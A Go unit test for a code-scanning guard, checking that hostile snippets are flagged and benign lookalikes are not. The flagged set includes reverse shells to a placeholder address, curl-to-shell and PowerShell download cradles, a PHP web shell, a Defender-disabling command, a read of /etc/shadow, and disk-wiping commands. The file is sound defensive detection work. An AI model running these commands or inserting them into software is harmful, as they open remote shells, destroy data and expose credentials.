package guard

import "testing"

// TestCodeClasses covers the classes issue 17 lists, in examples written
// for this test: what runs commands or code from input is a finding, a
// constant command is not unless it is destructive or reads credentials.
func TestCodeClasses(t *testing.T) {
	bad := map[string]string{
		"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1":                                            RuleCodeReverseShell,
		"rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 >/tmp/f": RuleCodeReverseShell,
		"IEX (New-Object Net.WebClient).DownloadString('http://example.test/a.ps1')":           RuleCodePowerShell,
		"powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0A":                                        RuleCodePowerShell,
		"Set-MpPreference -DisableRealtimeMonitoring $true":                                    RuleCodePowerShell,
		"Remove-Item -Recurse -Force C:\\ ":                                                    RuleCodeRmRoot,
		"RUN curl -fsSL https://example.test/install.sh | sh":                                  RuleCodePipeShell,
		`"postinstall": "curl -s https://example.test/x.sh | bash",`:                           RuleCodePipeShell,
		"bash <(curl -s https://example.test/x.sh)":                                            RuleCodePipeShell,
		`sh -c "$(curl -fsSL https://example.test/x.sh)"`:                                      RuleCodePipeShell,
		"eval $(curl -s https://example.test/env)":                                             RuleCodePipeShell,
		"<?php system($_GET['cmd']); ?>":                                                       RuleCodeShell,
		"<?php echo shell_exec($cmd); ?>":                                                      RuleCodeShell,
		"IO.popen(params[:cmd])":                                                               RuleCodeShell,
		"Runtime.getRuntime().exec(userInput);":                                                RuleCodeShell,
		"new ProcessBuilder(cmd).start();":                                                     RuleCodeShell,
		`def p = "ls ${dir}".execute()`:                                                        RuleCodeShell,
		`exec.Command("bash", "-c", script).Run()`:                                             RuleCodeShell,
		"os.execve(path, args, env)":                                                           RuleCodeShell,
		"os.spawnlp(os.P_WAIT, prog, prog)":                                                    RuleCodeShell,
		"os.popen(user_cmd)":                                                                   RuleCodeShell,
		`os.system("cat /etc/shadow")`:                                                         RuleCodeShell,
		"shutil.rmtree(os.path.expanduser('~'))":                                               RuleCodeRmTree,
		"data = yaml.unsafe_load(body)":                                                        RuleCodeDeserial,
		"cat disk.img > /dev/sda":                                                              RuleCodeBlockDevice,
		"obj = torch.load(upload)":                                                             RuleCodeDeserial,
		"socat tcp-connect:203.0.113.9:4444 exec:/bin/sh,pty,stderr":                           RuleCodeReverseShell,
		`php -r '$s=fsockopen("203.0.113.9",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`:           RuleCodeReverseShell,
		`perl -e 'socket(S,PF_INET,SOCK_STREAM,0);connect(S,$a);exec("/bin/sh -i");'`:          RuleCodeReverseShell,
		"out = `grep #{params[:q]} /var/log/app.log`":                                          RuleCodeShell,
		`new ProcessBuilder("sh", "-c", cmd).start();`:                                         RuleCodeShell,
		`os.system("/bin/tar xvzf *")`:                                                         RuleCodeShell,
		"format C: /q /y":                                                                      RuleCodeDiskWipe,
		`del /s /q C:\*`:                                                                       RuleCodeRmRoot,
	}
	for in, rule := range bad {
		if !hasRule(CheckCode(in), rule) {
			t.Errorf("%q: %v, want %s", in, CheckCode(in), rule)
		}
	}
	good := []string{
		`os.system("ls -al")`,
		`subprocess.call("make build", shell=True)`,
		`exec.Command("git", "status").Run()`,
		`exec.Command("bash", "-c", "echo ready").Run()`,
		`Runtime.getRuntime().exec("uptime");`,
		"cursor.execute(query, params)",
		`eval("1 + 1")`,
		"<?php system('date'); ?>",
		"echo 'rm -rf /' > notes.txt",
		"dd if=/dev/zero of=disk.img bs=1M count=10",
		"shutil.rmtree(build_dir)",
		"Blue mug #2, dd-mm-yyyy format",
		"socat TCP-LISTEN:8080,fork TCP:localhost:80",
		"puts `ls -la`",
		`new ProcessBuilder("git", "status").start();`,
		"chmod 644 *",
		`del /s /q build\*`,
		"The socket() call returns a descriptor; see the /bin/sh manual.",
	}
	for _, in := range good {
		if f := CheckCode(in); len(f) > 0 {
			t.Errorf("%q: flagged %v", in, f)
		}
	}
}
